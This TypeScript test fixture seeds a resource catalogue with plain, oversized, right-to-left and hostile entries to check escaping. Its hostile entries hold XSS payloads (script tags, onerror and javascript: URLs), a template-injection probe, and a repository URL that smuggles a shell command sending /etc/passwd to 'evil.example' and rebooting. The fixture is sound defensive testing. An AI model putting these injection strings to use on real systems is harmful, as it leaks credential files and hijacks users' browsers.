import { readFileSync } from "node:fs";
import { people } from "../support/people";

/* Entries added to the demo's: plain ones of each type, extreme ones, and hostile ones. */

export const tag = "heron";

interface Fields {
  externalId: string;
  type: "REPOSITORY" | "DATASET" | "NOTEBOOK" | "MODEL";
  name: string;
  [field: string]: unknown;
}

export function entry({ externalId, type, ...rest }: Fields): object {
  const own = {
    DATASET: { datasetUrl: `https://data.example.org/${externalId}` },
    REPOSITORY: { repositoryUrl: `https://github.com/maker/${externalId}` },
    NOTEBOOK: { notebookPath: "bundled:hodgkin-huxley-spike.ipynb" },
    MODEL: { applicationInterfaceId: externalId, version: "1.0" },
  };
  const common = { description: "", authors: ["jane.doe@example.org"], tags: [tag], privacy: "PUBLIC", headerImage: "" };
  return { kind: "resource", externalId, type, ...common, ...own[type], ...rest };
}

export const heron = {
  repository: "Heron code",
  dataset: "Heron calls, 50% & more",
  notebook: "Heron notebook",
  model: "Heron model",
  bare: "Heron model of no version",
  folder: "Heron folder",
  long: "W".repeat(200),
  heavy: "M".repeat(200),
  reversed: "مجموعة بيانات مالك الحزين 🐦 نسخة ٢",
};

export const hidden = "Hidden heron";
/** One for each width, public until a test hides it. */
export const turning = (project: string) => `Turning heron of the ${project}`;
export const doomed = (project: string) => `Doomed  heron <of> the ${project}`;
export const turningEntry = (project: string, privacy: string) =>
  entry({ externalId: `turning-${project}`, type: "DATASET", name: turning(project), privacy, authors: [people.researcher.email] });

const description = `# Herons

Some **bold** words, a [link](https://example.org/heron), a note[^1] and a ![picture](https://pictures.example.org/heron.png).

| bird | calls |
| --- | --- |
| grey heron | 12 |

[^1]: The note.`;

const plain = [
  entry({
    ...{ externalId: "heron-code", type: "REPOSITORY", name: heron.repository, description, tags: [tag, "md, namd", "Aves"] },
    ...{ authors: ["jane.doe@example.org", "lab@example.org"], repositoryUrl: "https://github.com/maker/heron.git" },
  }),
  entry({ externalId: "heron-calls", type: "DATASET", name: heron.dataset, description, headerImage: "https://pictures.example.org/x.png" }),
  entry({ externalId: "heron-folder", type: "DATASET", name: heron.folder, datasetUrl: "birds/heron" }),
  entry({ externalId: "heron-notebook", type: "NOTEBOOK", name: heron.notebook, description }),
  entry({ externalId: "a/b &c", type: "MODEL", name: heron.model, description, version: "2.1" }),
  entry({ externalId: "heron-bare", type: "MODEL", name: heron.bare, version: "" }),
  entry({ externalId: "heron-reversed", type: "DATASET", name: heron.reversed, description: "هذا نص مع English.", tags: [tag, "طائر", "🐦"] }),
  entry({ externalId: "heron-heavy", type: "MODEL", name: heron.heavy, version: "8".repeat(200) }),
  entry({
    ...{ externalId: "heron-long", type: "REPOSITORY", name: heron.long, description: `${"unbroken".repeat(400)}\n\n    ${"code".repeat(100)}` },
    authors: Array.from({ length: 100 }, (_, index) => `author.${index}@department.of.long.names.university.example.org`),
    tags: [tag, ...Array.from({ length: 29 }, (_, index) => `${String(index).padStart(2, "0")}${"x".repeat(58)}`)],
    repositoryUrl: `https://github.com/${"o".repeat(100)}/${"r".repeat(200)}`,
  }),
];

const own = { authors: [people.researcher.email, people.colleague.email], privacy: "PRIVATE" };
const private_ = entry({ externalId: "heron-hidden", type: "NOTEBOOK", name: hidden, description, ...own });

const changing = ["phone", "desktop"].flatMap((project) => [
  turningEntry(project, "PUBLIC"),
  entry({ externalId: `doomed-${project}`, type: "DATASET", name: doomed(project), authors: own.authors }),
]);

/** Markdown that runs, loads or covers something unless it is escaped. */
export const hostileMarkdown: string[] = JSON.parse(readFileSync(new URL("hostile-markdown.json", import.meta.url), "utf8"));
export const flood = `${"> ".repeat(9000)}drowned`;

const hostileText = `"><img src=x onerror=window.taken=1></script><script>window.taken=1</script>`;
export const hostile = {
  tag: "hostile",
  /** For every type, in every text field. */
  name: (type: string) => `${type} ${hostileText}`,
  command: "https://git.example.org/a;curl$IFS-d@/etc/passwd$IFS'evil.example'|sh/$(reboot)`reboot`",
};

const attacked = (["REPOSITORY", "DATASET", "NOTEBOOK", "MODEL"] as const).map((type) =>
  entry({
    ...{ externalId: `hostile-${type}`, type, name: hostile.name(type), description: hostileText, tags: [hostile.tag, "<b onclick=window.taken=1>"] },
    ...{ authors: ["o'hara&amp{{7*7}}`@example.org"], headerImage: 'javascript:window.taken=1//"><script>window.taken=1</script>' },
    ...(type === "REPOSITORY" && { repositoryUrl: hostile.command }),
    ...(type === "DATASET" && { datasetUrl: `<img src=x onerror=window.taken=1>"'` }),
    ...(type === "NOTEBOOK" && { notebookPath: "https://evil.example/<script>window.taken=1<script>'\"onclick='window.taken=1" }),
    ...(type === "MODEL" && { applicationInterfaceId: `javascript:window.taken=1//"><script>`, version: hostileText }),
  }),
);

const texts = [...hostileMarkdown, flood].map((text, index) =>
  entry({ externalId: `text-${index}`, type: "DATASET", name: `Text ${index}`, description: text, tags: ["hostile text"] }),
);

export const entries: object[] = [...plain, private_, ...changing, ...attacked, ...texts];
